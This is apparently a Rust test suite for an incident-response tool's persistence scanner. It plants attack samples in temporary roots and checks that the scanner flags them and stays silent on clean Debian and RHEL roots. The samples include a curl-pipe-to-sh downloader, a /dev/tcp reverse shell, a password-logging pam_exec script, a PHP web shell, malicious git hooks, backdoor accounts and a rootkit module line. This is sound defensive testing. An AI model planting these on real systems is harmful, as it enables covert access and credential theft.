//! `ir persistence` against planted variants of the Linux techniques it
//! must catch (each with the flag it must raise), and against clean
//! roots it must stay silent on: the same entries pointing at clean
//! programs, a fake dpkg database, and a real debootstrapped Debian 12.

use crate::util::{Host, json_out, skip_or_fail, tools_dir};
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

const PAST: [&str; 4] = ["--since", "2001-01-01", "--until", "2001-01-02"];
const DL: &str = "curl -s http://203.0.113.9/p | sh";
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLANTEDPLANTEDPLANTEDPLANTEDPLANTEDPLANTED x";

fn write(root: &Path, host: &str, text: &str) {
    let p = root.join(host.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn append(root: &Path, host: &str, text: &str) {
    let p = root.join(host.trim_start_matches('/'));
    let mut f = std::fs::OpenOptions::new().append(true).open(p).unwrap();
    std::io::Write::write_all(&mut f, text.as_bytes()).unwrap();
}

fn chmod(root: &Path, host: &str, mode: u32) {
    let p = root.join(host.trim_start_matches('/'));
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// `ir --json persistence` over a past window on `root`: (exit, items).
fn run(root: &Path, extra: &[&str]) -> (i32, Vec<Value>) {
    let case = tempfile::tempdir().unwrap();
    let out = assert_cmd::Command::new(env!("CARGO_BIN_EXE_ir"))
        .env_clear()
        .env("HOME", "/root")
        .arg("--root")
        .arg(root)
        .arg("--case")
        .arg(case.path())
        .args(["-q", "--json", "persistence"])
        .args(PAST)
        .args(extra)
        .output()
        .unwrap();
    let v = json_out(&out);
    let items = v["items"].as_array().cloned().unwrap_or_default();
    (out.status.code().unwrap(), items)
}

/// Flags of the items of one mechanism and path (all of its entries).
fn flags(items: &[Value], mechanism: &str, path: &str) -> Vec<String> {
    items
        .iter()
        .filter(|i| i["mechanism"] == mechanism && i["path"] == path)
        .flat_map(|i| i["flags"].as_array().unwrap().clone())
        .map(|f| f.as_str().unwrap().to_string())
        .collect()
}

fn flagged(items: &[Value]) -> Vec<&Value> {
    items
        .iter()
        .filter(|i| !i["flags"].as_array().unwrap().is_empty())
        .collect()
}

/// (mechanism, path, flag) planted on alice's host: an entry that is
/// harmless as text but runs a bad program, or a rule that fires on the
/// entry itself.
fn plant_variants(r: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
    binary_launch_daemon(r);
    let sh = format!("#!/bin/sh\n{DL}\n");
    write(
        r,
        "/var/log/spy.sh",
        "#!/bin/sh\nread p; echo \"$PAM_USER $p\" >> /var/log/.l\n",
    );
    write(
        r,
        "/etc/pam.d/common-auth",
        "auth optional pam_exec.so quiet expose_authtok /var/log/spy.sh\n",
    );
    write(r, "/usr/local/sbin/notify", &sh);
    write(
        r,
        "/etc/pam.d/sshd",
        "session optional pam_exec.so /usr/local/sbin/notify\n",
    );
    write(
        r,
        "/usr/local/bin/upd",
        "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
    );
    write(
        r,
        "/home/alice/.config/autostart/upd.desktop",
        "[Desktop Entry]\nExec=/usr/local/bin/upd\n",
    );
    write(r, "/usr/local/bin/usb-sync", &sh);
    write(
        r,
        "/etc/udev/rules.d/99-sync.rules",
        "ACTION==\"add\", RUN+=\"/usr/local/bin/usb-sync\"\n",
    );
    write(
        r,
        "/usr/local/bin/sync.sh",
        "#!/bin/sh\necho Y3VybCB4fHNo | base64 -d | sh\n",
    );
    write(
        r,
        "/etc/cron.d/sync",
        "*/10 * * * * root /usr/local/bin/sync.sh\n",
    );
    write(r, "/opt/agent/run.sh", &sh);
    write(
        r,
        "/etc/systemd/system/agent.service",
        "[Service]\nExecStart=/bin/bash /opt/agent/run.sh\n",
    );
    write(r, "/etc/ld.so.preload", "/usr/lib/libsystem.so\n");
    write(r, "/etc/cron.d/tick", "* * * * * root /usr/bin/true\n");
    write(
        r,
        "/var/lib/dpkg/info/openssh-server.postinst",
        "#!/bin/sh\nexit 0\n",
    );
    write(
        r,
        "/etc/cron.d/reinstall",
        "17 * * * * root /var/lib/dpkg/info/openssh-server.postinst configure\n",
    );
    append(
        r,
        "/etc/passwd",
        "svc:x:998:998::/var/lib/svc:/bin/bash\nbackup2:x:997:997::/var/backups:/usr/sbin/nologin \nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
    );
    write(r, "/var/www/.ssh/authorized_keys", &format!("{KEY}\n"));
    write(r, "/etc/dnf/plugins/sync.conf", "[main]\nenabled=1\n");
    write(
        r,
        "/usr/lib/python3.9/site-packages/dnf-plugins/sync.py",
        &format!("import os\nos.system('{DL}')\n"),
    );
    write(
        r,
        "/home/alice/.openclaw/workspace/.git/hooks/post-checkout",
        &sh,
    );
    write(
        r,
        "/home/alice/.openclaw/workspace/.git/hooks/pre-commit.sample",
        &sh,
    );
    write(
        r,
        "/home/alice/.openclaw/workspace/.git/config",
        "[core]\n\tfsmonitor = /home/alice/.openclaw/workspace/.git/fsm\n",
    );
    write(
        r,
        "/etc/default/grub",
        "GRUB_CMDLINE_LINUX=\"quiet init=/usr/local/bin/i\"\n",
    );
    write(r, "/etc/initramfs-tools/scripts/init-bottom/net", &sh);
    write(r, "/var/www/html/up.php", "<?php system($_GET['c']); ?>\n");
    write(r, "/var/spool/cron/atjobs/a0001", &sh);
    write(
        r,
        "/etc/shadow",
        "root:$y$j9T$rootroot:19000:0:99999:7:::\nsvc2:$6$salt$hash:19000:0:99999:7:::\nnopw::19000:0:99999:7:::\n",
    );
    append(
        r,
        "/etc/passwd",
        "svc2:x:996:996::/nonexistent:/usr/sbin/nologin\nnopw:x:1002:1002::/home/nopw:/bin/bash\n",
    );
    write(r, "/usr/bin/python3", "#!fake interpreter\n");
    chmod(r, "/usr/bin/python3", 0o4755);
    vec![
        ("pam-exec", "/etc/pam.d/common-auth", "pam_exec_authtok"),
        ("pam-exec", "/etc/pam.d/common-auth", "runs_from_data_dir"),
        ("pam-exec", "/etc/pam.d/sshd", "download_exec"),
        (
            "xdg-autostart",
            "/home/alice/.config/autostart/upd.desktop",
            "reverse_shell",
        ),
        (
            "udev-rule",
            "/etc/udev/rules.d/99-sync.rules",
            "download_exec",
        ),
        ("cron", "/etc/cron.d/sync", "base64_decode"),
        (
            "systemd-service",
            "/etc/systemd/system/agent.service",
            "download_exec",
        ),
        ("ld-preload", "/etc/ld.so.preload", "ld_preload"),
        ("cron", "/etc/cron.d/tick", "root_cron_every_minute"),
        ("cron", "/etc/cron.d/reinstall", "installs_package"),
        ("account", "/etc/passwd", "system_account_shell"),
        (
            "ssh-authorized-keys",
            "/var/www/.ssh/authorized_keys",
            "ssh_key_system_account",
        ),
        ("dnf-plugin", "/etc/dnf/plugins/sync.conf", "download_exec"),
        (
            "git-hook",
            "/home/alice/.openclaw/workspace/.git/hooks/post-checkout",
            "download_exec",
        ),
        (
            "git-config",
            "/home/alice/.openclaw/workspace/.git/config",
            "git_fsmonitor_command",
        ),
        ("grub", "/etc/default/grub", "grub_init_override"),
        (
            "initramfs-hook",
            "/etc/initramfs-tools/scripts/init-bottom/net",
            "download_exec",
        ),
        ("web-shell", "/var/www/html/up.php", "web_shell"),
        ("at", "/var/spool/cron/atjobs/a0001", "download_exec"),
        ("account", "/etc/passwd", "system_account_password"),
        ("account", "/etc/passwd", "empty_password"),
        ("setuid", "/usr/bin/python3", "suid_interpreter"),
        (
            "launch-daemon",
            "/Library/LaunchDaemons/com.apple.softwareupdated.plist",
            "download_exec",
        ),
    ]
}

/// A LaunchDaemon saved as a binary plist (launchd reads both forms).
fn binary_launch_daemon(r: &Path) {
    let mut d = plist::Dictionary::new();
    d.insert("Label".into(), "com.apple.softwareupdated".into());
    let args: Vec<plist::Value> = ["/bin/sh", "-c", DL].iter().map(|a| (*a).into()).collect();
    d.insert("ProgramArguments".into(), plist::Value::Array(args));
    let p = r.join("Library/LaunchDaemons/com.apple.softwareupdated.plist");
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    plist::Value::Dictionary(d).to_file_binary(p).unwrap();
}

#[test]
fn planted_variants_are_each_flagged() {
    let h = Host::files();
    let planted = plant_variants(&h.root);
    let (code, items) = run(&h.root, &[]);
    assert_eq!(code, 1);
    for (m, p, f) in &planted {
        let got = flags(&items, m, p);
        assert!(got.iter().any(|g| g == f), "{m} {p}: want {f}, got {got:?}");
    }
    // The program that raised a flag is named, and both shell tricks count.
    let pam = items
        .iter()
        .find(|i| i["path"] == "/etc/pam.d/sshd")
        .unwrap();
    assert_eq!(pam["payload"], "/usr/local/sbin/notify");
    let shells: Vec<&Value> = items
        .iter()
        .filter(|i| {
            i["mechanism"] == "account" && i["flags"].to_string().contains("system_account_shell")
        })
        .collect();
    assert_eq!(shells.len(), 2, "{shells:#?}");
    // An at job runs as whoever owns it.
    let at = items
        .iter()
        .find(|i| i["mechanism"] == "at")
        .expect("the at job is listed");
    let me = rustix::process::geteuid().as_raw();
    let want = if me == 0 {
        "root".to_string()
    } else {
        format!("uid {me}")
    };
    assert_eq!(at["user"], want.as_str(), "{at}");
    // A sample hook never runs, so it is not listed.
    assert!(
        !items
            .iter()
            .any(|i| i["path"].as_str().unwrap().ends_with(".sample"))
    );
}

#[test]
fn the_same_entries_running_clean_programs_raise_no_flag() {
    let h = Host::files();
    let r = &h.root;
    // The fixture's own planted job and SOUL.md are not what this test is about.
    std::fs::remove_file(h.state().join("cron/jobs.json")).unwrap();
    write(
        r,
        "/home/alice/.openclaw/workspace/SOUL.md",
        "# SOUL\nBe kind.\n",
    );
    write(
        r,
        "/usr/local/bin/backup.sh",
        "#!/bin/sh\ntar -czf /srv/backup/etc.tgz /etc\n",
    );
    write(
        r,
        "/etc/cron.d/backup",
        "30 2 * * * root /usr/local/bin/backup.sh\n",
    );
    write(
        r,
        "/etc/systemd/system/app.service",
        "[Service]\nExecStart=/usr/local/bin/backup.sh --now\n",
    );
    write(
        r,
        "/etc/pam.d/sshd",
        "session optional pam_exec.so /usr/local/bin/backup.sh\n",
    );
    write(
        r,
        "/home/alice/.openclaw/workspace/.git/config",
        "[core]\n\tfsmonitor = true\n\tpager = less -R\n",
    );
    write(
        r,
        "/etc/default/grub",
        "GRUB_CMDLINE_LINUX=\"quiet init=/lib/systemd/systemd\"\n",
    );
    write(r, "/var/www/html/index.php", "<?php echo 'hello'; ?>\n");
    write(r, "/usr/bin/su", "su\n");
    chmod(r, "/usr/bin/su", 0o4755);
    std::fs::create_dir_all(r.join("etc/modules-load.d")).unwrap();
    let (code, items) = run(r, &[]);
    let f = flagged(&items);
    assert!(f.is_empty(), "false positives: {f:#?}");
    assert_eq!(code, 0);
    assert!(!flags(&items, "setuid", "/usr/bin/su").iter().any(|_| true));
    assert!(
        items
            .iter()
            .any(|i| i["mechanism"] == "setuid" && i["path"] == "/usr/bin/su")
    );
}

#[test]
fn a_new_account_and_key_since_the_baseline_are_flagged() {
    let h = Host::files();
    std::fs::remove_file(h.state().join("cron/jobs.json")).unwrap();
    write(
        &h.root,
        "/home/alice/.openclaw/workspace/SOUL.md",
        "# SOUL\n",
    );
    write(
        &h.root,
        "/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3OLD root@admin\n",
    );
    let base = h.dir.path().join("base.json");
    let b = base.to_str().unwrap();
    assert_eq!(run(&h.root, &["--save-baseline", b]).0, 0);
    append(
        &h.root,
        "/etc/passwd",
        "helper:x:1001:1001::/home/helper:/bin/bash\n",
    );
    append(&h.root, "/root/.ssh/authorized_keys", &format!("{KEY}\n"));
    let (code, items) = run(&h.root, &["--baseline", b]);
    assert_eq!(code, 1);
    let acct = items
        .iter()
        .find(|i| i["mechanism"] == "account" && i["user"] == "helper")
        .unwrap();
    assert!(acct["flags"].to_string().contains("new_account"), "{acct}");
    let keys: Vec<&Value> = items
        .iter()
        .filter(|i| i["path"] == "/root/.ssh/authorized_keys")
        .collect();
    let added: Vec<&&Value> = keys
        .iter()
        .filter(|i| i["flags"].to_string().contains("ssh_key_added"))
        .collect();
    assert_eq!((keys.len(), added.len()), (2, 1), "{keys:#?}");
    assert!(!flags(&items, "account", "/etc/passwd").is_empty());
    let root_acct = items
        .iter()
        .find(|i| i["mechanism"] == "account" && i["user"] == "root")
        .unwrap();
    assert_eq!(root_acct["flags"], Value::Array(vec![]));
}

fn md5_hex(b: &[u8]) -> String {
    use md5::Digest;
    hex::encode(md5::Md5::digest(b))
}

/// A root with a dpkg database: coreutils owns `/bin/ls`, systemd a unit
/// enabled by a `.wants` link, base-files the template of /etc/profile, a
/// kernel package one module.
fn dpkg_root() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    for dir in ["usr/bin", "usr/lib", "usr/sbin", "var/lib/dpkg/info"] {
        std::fs::create_dir_all(r.join(dir)).unwrap();
    }
    for top in ["bin", "lib", "sbin"] {
        std::os::unix::fs::symlink(format!("usr/{top}"), r.join(top)).unwrap();
    }
    write(r, "/usr/bin/ls", "the real ls");
    write(
        r,
        "/usr/lib/systemd/system/cron.service",
        "[Service]\nExecStart=/usr/sbin/cron -f\n",
    );
    write(r, "/usr/sbin/cron", "\x7fELF cron");
    write(r, "/usr/share/base-files/profile", "PATH=/usr/bin\n");
    write(r, "/etc/profile", "PATH=/usr/bin\n");
    write(r, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write(r, "/etc/modules-load.d/modules.conf", "# modules\nloop\n");
    std::fs::create_dir_all(r.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    std::os::unix::fs::symlink(
        "/lib/systemd/system/cron.service",
        r.join("etc/systemd/system/multi-user.target.wants/cron.service"),
    )
    .unwrap();
    let list = "/bin\n/bin/ls\n/lib/systemd/system/cron.service\n/usr/sbin/cron\n/usr/share/base-files/profile\n/lib/modules/6.1.0-1-amd64/kernel/drivers/block/loop.ko\n/etc/modules-load.d/modules.conf\n";
    write(r, "/var/lib/dpkg/info/all.list", list);
    let sums = format!(
        "{}  bin/ls\n{}  lib/systemd/system/cron.service\n{}  usr/sbin/cron\n",
        md5_hex(b"the real ls"),
        md5_hex(b"[Service]\nExecStart=/usr/sbin/cron -f\n"),
        md5_hex(b"\x7fELF cron"),
    );
    write(r, "/var/lib/dpkg/info/all.md5sums", &sums);
    write(
        r,
        "/var/lib/dpkg/status",
        &format!(
            "Package: kmod\nConffiles:\n /etc/modules-load.d/modules.conf {}\n",
            md5_hex(b"# modules\nloop\n")
        ),
    );
    d
}

#[test]
fn a_packaged_root_is_judged_by_its_package_database() {
    let d = dpkg_root();
    let r = d.path();
    let (code, items) = run(r, &[]);
    let f = flagged(&items);
    assert!(
        f.is_empty(),
        "false positives on the clean dpkg root: {f:#?}"
    );
    assert_eq!(code, 0);
    // Replaced binaries, a backdoored packaged unit, a rootkit module.
    write(r, "/usr/bin/ls", "trojaned ls");
    write(r, "/usr/sbin/cron", "\x7fELF evil cron");
    write(
        r,
        "/etc/modules-load.d/modules.conf",
        "# modules\nloop\ndiamorphine\n",
    );
    write(r, "/etc/profile", &format!("PATH=/usr/bin\n{DL}\n"));
    let (code, items) = run(r, &[]);
    assert_eq!(code, 1);
    for (m, p, want) in [
        ("package-integrity", "/usr/bin/ls", "modified_package_file"),
        (
            "systemd-service",
            "/usr/lib/systemd/system/cron.service",
            "modified_package_file",
        ),
        (
            "kernel-module",
            "/etc/modules-load.d/modules.conf",
            "unpackaged_module",
        ),
        ("shell-rc", "/etc/profile", "download_exec"),
        ("shell-rc", "/etc/profile", "unpackaged"),
    ] {
        let got = flags(&items, m, p);
        assert!(
            got.iter().any(|g| g == want),
            "{m} {p}: want {want}, got {got:?}"
        );
    }
    let loop_line = items
        .iter()
        .find(|i| i["command"] == "loop")
        .expect("the loop module is listed");
    assert_eq!(loop_line["flags"], Value::Array(vec![]), "{loop_line}");
}

#[test]
fn an_intact_packaged_file_is_not_recent_but_a_new_link_is() {
    let d = dpkg_root();
    let r = d.path();
    std::fs::create_dir_all(r.join("etc/systemd/system/timers.target.wants")).unwrap();
    std::os::unix::fs::symlink(
        "/lib/systemd/system/cron.service",
        r.join("etc/systemd/system/timers.target.wants/cron.service"),
    )
    .unwrap();
    let case = tempfile::tempdir().unwrap();
    let out = assert_cmd::Command::new(env!("CARGO_BIN_EXE_ir"))
        .env_clear()
        .env("HOME", "/root")
        .arg("--root")
        .arg(r)
        .arg("--case")
        .arg(case.path())
        .args(["-q", "--json", "persistence", "--since", "1h"])
        .output()
        .unwrap();
    let items = json_out(&out)["items"].as_array().cloned().unwrap();
    let unit = flags(
        &items,
        "systemd-service",
        "/usr/lib/systemd/system/cron.service",
    );
    assert!(
        unit.is_empty(),
        "the vendor's unit, just installed: {unit:?}"
    );
    let link = flags(
        &items,
        "systemd-enablement",
        "/etc/systemd/system/timers.target.wants/cron.service",
    );
    assert_eq!(link, ["recent"], "a service enabled in the window");
}

/// The spec of a RHEL-like base package: coreutils-style binaries (su
/// packaged SUID), a cron daemon and its unit, `%config` files and a
/// kernel module, with the modes rpm records.
const BASE_SPEC: &str = r#"Name: base
Version: 1.0
Release: 1
Summary: a RHEL-like base
License: MIT
BuildArch: noarch
%description
base
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/sbin %{buildroot}/etc/modules-load.d %{buildroot}/usr/lib/systemd/system %{buildroot}/usr/lib/modules/5.14.0/kernel/drivers/block
printf 'the real ls' > %{buildroot}/usr/bin/ls
printf 'the real cat' > %{buildroot}/usr/bin/cat
printf 'the real su' > %{buildroot}/usr/bin/su
printf '\177ELF crond' > %{buildroot}/usr/sbin/crond
printf '[Service]\nExecStart=/usr/sbin/crond -n\n' > %{buildroot}/usr/lib/systemd/system/crond.service
printf 'PATH=/usr/bin\n' > %{buildroot}/etc/profile
printf 'root:x:0:0:root:/root:/bin/bash\n' > %{buildroot}/etc/passwd
printf 'loop\n' > %{buildroot}/etc/modules-load.d/modules.conf
printf 'ko' > %{buildroot}/usr/lib/modules/5.14.0/kernel/drivers/block/loop.ko.xz
%files
%attr(0755,root,root) /usr/bin/ls
%attr(0755,root,root) /usr/bin/cat
%attr(4755,root,root) /usr/bin/su
%attr(0755,root,root) /usr/sbin/crond
/usr/lib/systemd/system/crond.service
/usr/lib/modules/5.14.0/kernel/drivers/block/loop.ko.xz
%config(noreplace) /etc/profile
%config(noreplace) /etc/passwd
%config(noreplace) /etc/modules-load.d/modules.conf
"#;

/// A RHEL-like root whose rpm database (SQLite, as RHEL 9 keeps it) is
/// written by the real `rpm`, from a package built by the real `rpmbuild`.
fn rpm_root() -> Option<tempfile::TempDir> {
    let (rpmbuild, rpm) = (Path::new("/usr/bin/rpmbuild"), Path::new("/usr/bin/rpm"));
    if !rpmbuild.exists() || !rpm.exists() {
        skip_or_fail("no rpm/rpmbuild (Debian package rpm): run scripts/setup.sh as root");
        return None;
    }
    let top = tempfile::tempdir().unwrap();
    write(top.path(), "/SPECS/base.spec", BASE_SPEC);
    let ok = std::process::Command::new(rpmbuild)
        .env_clear()
        .env("HOME", top.path())
        .arg("--define")
        .arg(format!("_topdir {}", top.path().display()))
        .args(["--quiet", "-bb"])
        .arg(top.path().join("SPECS/base.spec"))
        .status()
        .unwrap();
    assert!(ok.success(), "rpmbuild failed");
    let d = tempfile::tempdir().unwrap();
    for top in ["bin", "lib", "sbin"] {
        std::fs::create_dir_all(d.path().join("usr").join(top)).unwrap();
        std::os::unix::fs::symlink(format!("usr/{top}"), d.path().join(top)).unwrap();
    }
    let out = std::process::Command::new(rpm)
        .env_clear()
        .env("HOME", top.path())
        .arg("--root")
        .arg(d.path())
        .args(["--dbpath", "/var/lib/rpm", "--nodeps", "--noscripts", "-i"])
        .arg(top.path().join("RPMS/noarch/base-1.0-1.noarch.rpm"))
        .output()
        .unwrap();
    assert!(out.status.success(), "rpm -i: {out:?}");
    assert!(d.path().join("var/lib/rpm/rpmdb.sqlite").exists());
    Some(d)
}

#[test]
fn a_rhel_like_root_is_judged_by_rpms_database() {
    let Some(d) = rpm_root() else { return };
    let r = d.path();
    let db = std::fs::read(r.join("var/lib/rpm/rpmdb.sqlite")).unwrap();
    let (code, items) = run(r, &[]);
    let f = flagged(&items);
    assert!(
        f.is_empty(),
        "false positives on the clean rpm root: {f:#?}"
    );
    assert_eq!(code, 0);
    let su = items.iter().find(|i| i["path"] == "/usr/bin/su");
    assert!(su.is_some(), "the packaged SUID su is listed");
    assert!(items.iter().any(|i| i["package"] == "intact"));
    // A replaced binary, a SUID bit the package never set, a backdoored
    // daemon behind a packaged unit, an edited %config, a rootkit module.
    write(r, "/usr/bin/ls", "trojaned ls");
    chmod(r, "/usr/bin/cat", 0o4755);
    write(r, "/usr/sbin/crond", "\x7fELF evil crond");
    write(r, "/etc/profile", &format!("PATH=/usr/bin\n{DL}\n"));
    append(r, "/etc/modules-load.d/modules.conf", "diamorphine\n");
    let (code, items) = run(r, &[]);
    assert_eq!(code, 1);
    for (m, p, want) in [
        ("package-integrity", "/usr/bin/ls", "modified_package_file"),
        ("setuid", "/usr/bin/cat", "setid_not_in_package"),
        (
            "systemd-service",
            "/usr/lib/systemd/system/crond.service",
            "modified_package_file",
        ),
        ("shell-rc", "/etc/profile", "download_exec"),
        (
            "kernel-module",
            "/etc/modules-load.d/modules.conf",
            "unpackaged_module",
        ),
    ] {
        let got = flags(&items, m, p);
        assert!(
            got.iter().any(|g| g == want),
            "{m} {p}: want {want}, got {got:?}"
        );
    }
    let su = flags(&items, "setuid", "/usr/bin/su");
    assert!(su.is_empty(), "su is SUID as packaged: {su:?}");
    // Read-only: rpm's database kept its bytes.
    assert_eq!(
        std::fs::read(r.join("var/lib/rpm/rpmdb.sqlite")).unwrap(),
        db
    );
}

/// The clean Debian 12 root `scripts/debian-root.sh` builds (debootstrap).
fn debian_root() -> Option<PathBuf> {
    let p = std::env::var_os("IR_DEBIAN_ROOT")
        .map(PathBuf::from)
        .unwrap_or_else(|| tools_dir().join("debian12-root"));
    p.join(".ir-complete").exists().then_some(p)
}

#[test]
fn a_clean_debian_12_raises_no_flag() {
    let Some(root) = debian_root() else {
        skip_or_fail("no Debian 12 root: run scripts/setup.sh (debootstrap, as root)");
        return;
    };
    if std::fs::read(root.join("etc/shadow")).is_err() {
        skip_or_fail("the Debian 12 root is not readable by this user (run as root)");
        return;
    }
    let (code, items) = run(&root, &[]);
    let f = flagged(&items);
    assert!(f.is_empty(), "false positives on a clean Debian 12: {f:#?}");
    assert_eq!(code, 0);
    // It was judged, not skipped: units, links, accounts, SUID files.
    assert!(items.len() > 200, "only {} items", items.len());
    for m in ["systemd-service", "systemd-enablement", "account", "setuid"] {
        assert!(items.iter().any(|i| i["mechanism"] == m), "no {m} item");
    }
    let intact = items.iter().filter(|i| i["package"] == "intact").count();
    assert!(intact > 100, "only {intact} intact");
}

#[test]
fn collect_takes_the_programs_entries_run_and_quarantine_acts_on_them() {
    let h = Host::files();
    let r = &h.root;
    let sh = format!("#!/bin/sh\n{DL}\n");
    write(r, "/usr/local/sbin/agentd", &sh);
    write(
        r,
        "/etc/systemd/system/agentd.service",
        "[Service]\nExecStart=/usr/local/sbin/agentd\n",
    );
    write(r, "/usr/local/sbin/notify", &sh);
    write(
        r,
        "/etc/pam.d/sshd",
        "session required pam_exec.so /usr/local/sbin/notify\n",
    );
    let (_, key) = crate::collect::keypair(h.dir.path());
    h.ir()
        .args(["-q", "collect", "-r", &key])
        .assert()
        .success();
    let out = h
        .ir()
        .args(["--json", "quarantine", "--all-flagged"])
        .output()
        .unwrap();
    let v = json_out(&out);
    let paths: Vec<&str> = v["quarantined"]
        .as_array()
        .unwrap()
        .iter()
        .map(|q| q["path"].as_str().unwrap())
        .collect();
    // The unit's program is the payload: it goes, the unit stays.
    assert!(paths.contains(&"/usr/local/sbin/agentd"), "{v}");
    assert!(
        !paths.contains(&"/etc/systemd/system/agentd.service"),
        "{v}"
    );
    assert!(!r.join("usr/local/sbin/agentd").exists());
    // A pam_exec program is left and named: without it a `required` line
    // would deny every login; so is the PAM file.
    assert!(r.join("usr/local/sbin/notify").exists());
    assert!(!paths.contains(&"/etc/pam.d/sshd"), "{v}");
    let left = v["left"].to_string();
    assert!(
        left.contains("/usr/local/sbin/notify") && left.contains("pam_exec"),
        "{v}"
    );
}

#[test]
fn a_payload_never_leads_out_of_the_root_nor_blocks() {
    let h = Host::files();
    let r = &h.root;
    // Outside the root, a file that would be flagged if it were read.
    let outside = h.dir.path().join("outside.sh");
    std::fs::write(&outside, format!("#!/bin/sh\n{DL}\n")).unwrap();
    std::fs::create_dir_all(r.join("usr/local/bin")).unwrap();
    std::os::unix::fs::symlink(&outside, r.join("usr/local/bin/out")).unwrap();
    let up = format!("../../../../../../../../..{}", outside.display());
    std::os::unix::fs::symlink(&up, r.join("usr/local/bin/up")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        r.join("usr/local/bin/fifo"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o755),
        0,
    )
    .unwrap();
    write(
        r,
        "/etc/cron.d/links",
        "0 * * * * root /usr/local/bin/out\n0 * * * * root /usr/local/bin/up\n0 * * * * root /usr/local/bin/fifo\n",
    );
    let (_, items) = run(r, &[]);
    let f = flags(&items, "cron", "/etc/cron.d/links");
    assert!(f.is_empty(), "a file outside the root was judged: {f:?}");
}

#[test]
fn the_report_says_to_remove_the_program_an_entry_runs() {
    let h = Host::files();
    let r = &h.root;
    let sh = format!("#!/bin/sh\n{DL}\n");
    write(r, "/usr/local/sbin/agentd", &sh);
    write(
        r,
        "/etc/systemd/system/agentd.service",
        "[Service]\nExecStart=/usr/local/sbin/agentd\n",
    );
    write(r, "/usr/local/sbin/notify", &sh);
    write(
        r,
        "/etc/pam.d/sshd",
        "session required pam_exec.so /usr/local/sbin/notify\n",
    );
    h.ir().args(["-q", "persistence"]).assert().code(1);
    h.ir().args(["-q", "report"]).assert().success();
    let rep: Value =
        serde_json::from_slice(&std::fs::read(h.case.join("report.json")).unwrap()).unwrap();
    let todo = rep["todo"].to_string();
    assert!(
        todo.contains("ir quarantine /usr/local/sbin/agentd (the program it runs)"),
        "{todo}"
    );
    assert!(
        todo.contains("remove the pam_exec line from /etc/pam.d/sshd first, then ir quarantine /usr/local/sbin/notify"),
        "{todo}"
    );
}
